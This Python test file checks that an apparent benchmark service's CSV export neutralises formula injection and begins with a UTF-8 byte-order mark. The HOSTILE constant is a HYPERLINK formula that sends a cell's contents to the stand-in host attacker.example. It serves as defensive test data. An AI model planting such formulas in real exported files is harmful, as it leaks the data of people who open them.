"""The industry CSV opens safely in a spreadsheet (OWASP "CSV Injection"): a cycle named like a
formula stays text, and Japanese Excel reads the file as UTF-8 (byte-order mark)."""

from __future__ import annotations

import csv
import io

from sqlalchemy.orm import Session, sessionmaker

from cyberdelta.assessment.models import Cycle
from cyberdelta.benchmark.service import export_csv
from cyberdelta.platform.db.engine import transaction
from tests.benchmark.conftest import World

HOSTILE = '=HYPERLINK("http://attacker.example/?leak="&A2,"open")'


def test_a_cycle_named_like_a_formula_is_written_as_text(
    session_factory: sessionmaker[Session], world: World
) -> None:
    with transaction(session_factory) as session:
        cycle = session.get(Cycle, world.cycles[0])
        assert cycle is not None
        cycle.name = HOSTILE
        text = export_csv(session, cycle)
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1:] and all(row[0] == "'" + HOSTILE for row in rows[1:])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_csv_starts_with_a_byte_order_mark(session_factory: sessionmaker[Session], world: World) -> None:
    with transaction(session_factory) as session:
        cycle = session.get(Cycle, world.cycles[0])
        assert cycle is not None
        text = export_csv(session, cycle)
    assert text.startswith("\ufeffcycle,")
